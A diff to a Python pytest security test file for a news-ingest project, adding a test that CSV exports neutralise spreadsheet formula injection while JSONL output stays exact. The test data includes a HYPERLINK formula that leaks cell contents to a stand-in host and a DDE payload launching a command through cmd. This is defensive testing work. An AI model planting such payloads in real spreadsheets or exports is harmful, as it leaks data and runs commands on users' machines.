@@ -1,11 +1,15 @@
 """Secrets are never printed or logged: database passwords, URL credentials, the API token.
 
-(Escaping of hostile text is tested in test_web_security.py, the token on writes in test_api.py, SSRF,
+Exports of hostile text: CSV cells are inert in spreadsheets, JSONL stays exact.
+(Escaping of hostile text in pages is tested in test_web_security.py, the token on writes in test_api.py, SSRF,
 redirects and fetch limits in test_ingest_fetch.py, ids that look like paths in test_api.py.)
 """
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import os
 import socket
 import subprocess
@@ -18,6 +22,9 @@ import pytest
 from sqlalchemy.engine import make_url
 
 from newsweave.ingest.fetch import without_credentials
+from newsweave.model import Article
+from newsweave.store import open_store
+from newsweave.store.backup import write_export
 
 NEWSWEAVE = str(Path(sys.executable).parent / "newsweave")
 SECRET = "Sup3r-Secret-Pw"
@@ -92,3 +99,23 @@ def test_security_token_and_db_url_never_in_server_output(tmp_path: Path) -> Non
     if PG_URL:
         password = make_url(PG_URL).password
         assert password and f":{password}@" not in output
+
+
+HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+HOSTILE_SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_security_csv_export_cells_are_inert_and_jsonl_exact(tmp_path: Path) -> None:
+    with open_store(tmp_path / "hostile.db") as store:
+        store.add_articles([Article(id="h1", text="-2+3 is what the headline said.", title=HOSTILE_TITLE,
+                                    source=HOSTILE_SOURCE, lang="en")])
+        csv_out, jsonl_out = io.StringIO(), io.StringIO()
+        write_export(store, "articles", "csv", csv_out)
+        write_export(store, "articles", "jsonl", jsonl_out)
+    row = next(csv.DictReader(io.StringIO(csv_out.getvalue())))
+    assert row["title"] == "'" + HOSTILE_TITLE and row["source"] == "'" + HOSTILE_SOURCE
+    cells = [v for v in row.values() if v]
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in cells), cells
+    record = json.loads(jsonl_out.getvalue())
+    assert (record["title"], record["source"], record["text"]) == (HOSTILE_TITLE, HOSTILE_SOURCE,
+                                                                   "-2+3 is what the headline said.")
